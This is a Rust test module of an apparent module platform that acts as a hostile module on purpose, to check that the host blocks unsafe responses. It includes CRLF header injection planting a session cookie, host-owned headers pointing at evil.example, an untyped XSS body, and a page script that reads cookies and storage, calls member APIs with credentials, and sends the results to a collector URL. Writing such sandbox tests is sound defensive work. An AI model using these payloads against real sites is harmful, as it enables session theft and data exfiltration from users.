//! Test module `hostile-pages` (API 0.3.0): every route answers something
//! a module must never get to a browser with the host's authority — the
//! headers the host owns (cookies, CORS, HSTS, a looser CSP,
//! `Clear-Site-Data`, hop-by-hop headers), CRLF in a header value, a body
//! without a type, statuses outside 200–599, thousands of headers, a
//! redirect wherever the query says, and (`/page`, for members) an HTML
//! page whose script tries to read the session cookie and to call the API
//! and the module with the member's authority, reporting what it got.

use serde_json::json;
use souk_sdk::{Migration, Module, Request, Response, Router, context, db};

/// The hostile module.
struct Hostile;

impl Module for Hostile {
    fn migrations() -> Vec<Migration> {
        vec![Migration::new(
            "0001_visits",
            "CREATE TABLE visits (id INTEGER PRIMARY KEY)",
            "DROP TABLE visits",
        )]
    }

    fn handle(request: Request) -> Response {
        Router::new()
            .get("/bad-headers", bad_headers)
            .get("/crlf", crlf)
            .get("/untyped", untyped)
            .get("/status", status)
            .get("/many-headers", many_headers)
            .get("/big-header", big_header)
            .get("/redirect", redirect)
            .get("/page", page)
            .get("/whoami", whoami)
            .post("/write-then", write_then)
            .get("/visits", visits)
            .handle(request)
    }
}

/// Every header the host keeps for itself, each with a hostile value.
const HOST_OWNED: &[(&str, &str)] = &[
    ("set-cookie", "souk_session=planted; Path=/"),
    ("Set-Cookie", "souk_csrf=planted; Path=/"),
    ("access-control-allow-origin", "*"),
    ("access-control-allow-credentials", "true"),
    ("access-control-expose-headers", "*"),
    (
        "strict-transport-security",
        "max-age=31536000; includeSubDomains",
    ),
    ("clear-site-data", "\"*\""),
    ("connection", "close"),
    ("keep-alive", "timeout=600"),
    ("transfer-encoding", "chunked"),
    ("upgrade", "websocket"),
    ("te", "trailers"),
    ("trailer", "x-after"),
    ("proxy-authenticate", "Basic"),
    ("content-length", "99999"),
    ("alt-svc", "h2=\"evil.example:443\""),
    ("nel", "{\"report_to\":\"x\",\"max_age\":31536000}"),
    (
        "report-to",
        "{\"group\":\"x\",\"max_age\":31536000,\"endpoints\":[{\"url\":\"https://evil.example/r\"}]}",
    ),
    ("refresh", "0; url=https://evil.example/"),
    ("www-authenticate", "Basic realm=\"Souk sign-in\""),
    ("service-worker-allowed", "/"),
    ("accept-ch", "Sec-CH-UA-Model"),
    ("set-login", "logged-in"),
    ("x-content-type-options", "sniff-away"),
    (
        "content-security-policy",
        "sandbox allow-scripts allow-same-origin",
    ),
];

fn bad_headers(_: &Request) -> Response {
    let mut response = Response::text(200, "every header the host owns");
    for (name, value) in HOST_OWNED {
        response = response.append_header(*name, *value);
    }
    response.append_header("x-module-note", "kept")
}

fn crlf(_: &Request) -> Response {
    Response::text(200, "crlf").append_header(
        "x-note",
        "split\r\nSet-Cookie: souk_session=injected; Path=/",
    )
}

fn untyped(_: &Request) -> Response {
    Response::new(200).with_body(b"<script>alert(document.cookie)</script>".to_vec())
}

/// `?code=N`: answers status N.
fn status(request: &Request) -> Response {
    let code = request
        .query("code")
        .and_then(|c| c.parse::<u16>().ok())
        .unwrap_or(999);
    Response::new(code).with_body(b"odd status".to_vec())
}

/// `?count=N` (default 10,000) headers.
fn many_headers(request: &Request) -> Response {
    let count = request
        .query("count")
        .and_then(|c| c.parse::<usize>().ok())
        .unwrap_or(10_000);
    let mut response = Response::text(200, "many headers");
    for i in 0..count {
        response = response.append_header(format!("x-h-{i}"), "v");
    }
    response
}

/// One header of `?bytes=N` (default 1 MiB) bytes.
fn big_header(request: &Request) -> Response {
    let bytes = request
        .query("bytes")
        .and_then(|c| c.parse::<usize>().ok())
        .unwrap_or(1024 * 1024);
    Response::text(200, "big header").append_header("x-big", "a".repeat(bytes))
}

/// `?to=URL`: a 302 there.
fn redirect(request: &Request) -> Response {
    let to = request.query("to").unwrap_or_default();
    Response::new(302).with_header("location", to)
}

/// Writes a visit, then answers `?code=N` (default 200), with CRLF in a
/// header when `?crlf=1`: a refused answer must take the write back.
fn write_then(request: &Request) -> Response {
    if let Err(e) = db::execute("INSERT INTO visits DEFAULT VALUES", &[]) {
        return Response::text(500, e.to_string());
    }
    let code = request
        .query("code")
        .and_then(|c| c.parse::<u16>().ok())
        .unwrap_or(200);
    let response = Response::new(code).with_body(b"written".to_vec());
    if request.query("crlf").is_some() {
        response.with_header("x-note", "a\r\nb")
    } else {
        response
    }
}

/// How many visits were written.
fn visits(_: &Request) -> Response {
    match db::query("SELECT COUNT(*) AS n FROM visits", &[]) {
        Ok(rows) => {
            let n: i64 = rows.first().and_then(|row| row.get("n").ok()).unwrap_or(-1);
            Response::json(200, &json!({ "visits": n }))
        }
        Err(e) => Response::text(500, e.to_string()),
    }
}

/// Who the host says is calling.
fn whoami(_: &Request) -> Response {
    Response::json(200, &json!({ "context": context() }))
}

/// The page a hostile module would love a member to open: its script
/// tries the cookie, local storage, the API (`?api=`) and this module's
/// member route with the member's credentials, writes what it found into
/// `#findings` and sends it to `?collector=`.
fn page(_: &Request) -> Response {
    Response::new(200)
        .with_header("content-type", "text/html; charset=utf-8")
        .with_body(PAGE.as_bytes().to_vec())
}

const PAGE: &str = r#"<!doctype html>
<html><head><title>hostile page</title></head>
<body><h1>A page for members</h1><pre id="findings">running</pre>
<script>
(async () => {
  const q = new URLSearchParams(location.search);
  const api = q.get('api') || '';
  const tenant = q.get('tenant') || '';
  const collector = q.get('collector') || '';
  const found = { ran: true };
  try { found.cookie = document.cookie; } catch (e) { found.cookie_error = e.name; }
  try { found.storage = String(window.localStorage.length); } catch (e) { found.storage_error = e.name; }
  found.origin = String(self.origin);
  async function probe(url, init) {
    try {
      const res = await fetch(url, init);
      const text = await res.text();
      return String(res.status) + ' ' + text.slice(0, 300);
    } catch (e) {
      return 'error ' + e.name;
    }
  }
  const include = { credentials: 'include' };
  found.api_session = await probe(api + '/v1/tenants/' + tenant + '/sessions/current', include);
  found.api_users = await probe(api + '/v1/tenants/' + tenant + '/users', include);
  found.api_module = await probe(api + '/t/' + tenant + '/m/hostile-pages/whoami', include);
  found.module_whoami = await probe('/t/' + tenant + '/m/hostile-pages/whoami', include);
  found.same_origin_whoami = await probe('/t/' + tenant + '/m/hostile-pages/whoami', { credentials: 'same-origin' });
  document.getElementById('findings').textContent = JSON.stringify(found);
  if (collector) {
    try {
      await fetch(collector + '/report?found=' + encodeURIComponent(JSON.stringify(found)), { mode: 'no-cors' });
    } catch (e) {
      new Image().src = collector + '/report?found=' + encodeURIComponent(JSON.stringify(found));
    }
  }
})();
</script></body></html>
"#;

souk_sdk::export_module!(Hostile);
